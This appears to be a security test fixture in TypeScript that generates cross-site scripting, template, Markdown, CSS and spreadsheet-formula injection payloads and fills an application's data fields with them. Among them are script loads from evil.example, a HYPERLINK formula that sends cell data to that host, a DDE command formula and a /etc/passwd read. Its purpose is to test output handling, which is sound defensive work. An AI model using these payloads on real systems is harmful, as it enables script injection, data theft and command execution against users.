/**
 * Texts that run `pwn()` wherever something takes them for more than a text: as
 * markup, an attribute, an address, a template, a style, Markdown, or a formula.
 */

const ELEMENTS = [
  '<script>pwn()</script>',
  '<script src=//evil.example/a.js></script>',
  '<img src=x onerror=pwn()>',
  '<img/src="x"/onerror="pwn()">',
  '<svg onload=pwn()>',
  '<svg/onload=pwn()//',
  '<svg><script>pwn()</script></svg>',
  '<svg><animate onbegin=pwn() attributeName=x dur=1s>',
  '<svg><set onbegin=pwn() attributeName=x>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=pwn()>#x">',
  '<svg><foreignObject><img src=x onerror=pwn()></foreignObject>',
  '<svg><a href="javascript:pwn()"><text>x</text></a>',
  '<math href="javascript:pwn()">x</math>',
  '<math><mtext><img src=x onerror=pwn()>',
  '<body onload=pwn()>',
  '<video src=x onerror=pwn()>',
  '<audio src=x onerror=pwn()>',
  '<video><source onerror=pwn()></video>',
  '<input autofocus onfocus=pwn()>',
  '<select autofocus onfocus=pwn()>',
  '<textarea autofocus onfocus=pwn()>',
  '<details open ontoggle=pwn()>',
  '<marquee onstart=pwn()>x</marquee>',
  '<iframe src="javascript:pwn()"></iframe>',
  '<iframe srcdoc="<script>parent.pwn()</script>">',
  '<object data="javascript:pwn()"></object>',
  '<embed src="javascript:pwn()">',
  '<link rel=stylesheet href=//evil.example/a.css onerror=pwn()>',
  '<style onload=pwn()></style>',
  '<style>@import "//evil.example/a.css";</style>',
  '<a href="javascript:pwn()">x</a>',
  '<form action="javascript:pwn()"><button>x</form>',
  '<button formaction="javascript:pwn()">x</button>',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:pwn()">',
  '<table background="javascript:pwn()">',
  '<x onclick=pwn() tabindex=1 autofocus onfocus=pwn()>',
  '<template><img src=x onerror=pwn()></template>',
];

/** Breaks out of where a text may have been put. */
const BREAKS = ['', '">', "'>", '</textarea>', '</title>', '</script>', '</style>', '-->', ']]>', '\\">'];

const OTHERS = [
  'javascript:pwn()',
  'JaVaScRiPt:pwn()',
  '\u0001javascript:pwn()',
  'java\u200bscript:pwn()',
  'vbscript:pwn()',
  'data:text/html,<script>pwn()</script>',
  '" onmouseover="pwn()" autofocus onfocus="pwn()',
  "' onmouseover='pwn()",
  '` onmouseover=pwn() `',
  "{{constructor.constructor('pwn()')()}}",
  "{{$on.constructor('pwn()')()}}",
  '${pwn()}',
  '#{pwn()}',
  '<%= pwn() %>',
  '[[${pwn()}]]',
  '[x](javascript:pwn())',
  '![x](x" onerror="pwn())',
  '<javascript:pwn()>',
  'x;background:url(javascript:pwn())',
  'expression(pwn())',
  '}*{background:url(//evil.example/pwn)}',
  '</style><style>*{background:url(//evil.example/pwn)}',
  '"};pwn();//',
  "';pwn();//",
  '\\u003cimg src=x onerror=pwn()\\u003e',
  '%3Cimg src=x onerror=pwn()%3E',
  '&lt;img src=x onerror=pwn()&gt;',
  '&#60;img src=x onerror=pwn()&#62;',
  '＜img src=x onerror=pwn()＞',
  '<scr<script>ipt>pwn()</scr</script>ipt>',
  '<noscript><p title="</noscript><img src=x onerror=pwn()>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=pwn()&gt;">',
  '\u202e>)(nwp=rorreno x=crs gmi<\u202c',
  '\u2067<img src=x onerror=pwn()>\u2069',
  '{"__html":"<img src=x onerror=pwn()>"}',
  '=HYPERLINK("http://evil.example/?"&A1,"pwn")',
  "=cmd|'/C pwn'!A0",
  '@SUM(1+1)*pwn()',
  '+pwn()',
  '-pwn()',
  '#read("/etc/passwd") pwn',
  '#eval("pwn()")',
  '$ pwn() $ #link("javascript:pwn()")[x]',
];

/** Every element behind every break, and the others. */
export const SCRIPT_PAYLOADS: readonly string[] = [
  ...BREAKS.flatMap((before) => ELEMENTS.map((element) => before + element)),
  ...OTHERS,
];

/** The payloads in texts of at most so many characters, none cut. */
export function packedPayloads(most: number): string[] {
  const packs: string[] = [];
  let pack = '';
  for (const payload of SCRIPT_PAYLOADS) {
    const longer = pack === '' ? payload : `${pack} ${payload}`;
    if (longer.length > most) {
      packs.push(pack);
      pack = payload;
    } else pack = longer;
  }
  return [...packs, pack];
}

const NOTES = new Set([
  'objective',
  'add_information',
  'description',
  'activity_note',
  'interest_register',
  'descriptive_roadmaps',
  'recovery_activity',
  'preamble',
  'contract_terms',
]);

/** Of a world: notes and terms hold thousands of characters of payloads, each other field the next few. */
export function payloadTexts(): (resource: string, field: string) => string {
  const [lines, notes] = [packedPayloads(250), packedPayloads(6000)];
  let at = 0;
  return (resource, field) => {
    at += 1;
    const isNote = NOTES.has(field) || (resource === 'water_springs' && field === 'notes');
    return (isNote ? notes[at % notes.length] : lines[at % lines.length]) ?? '';
  };
}
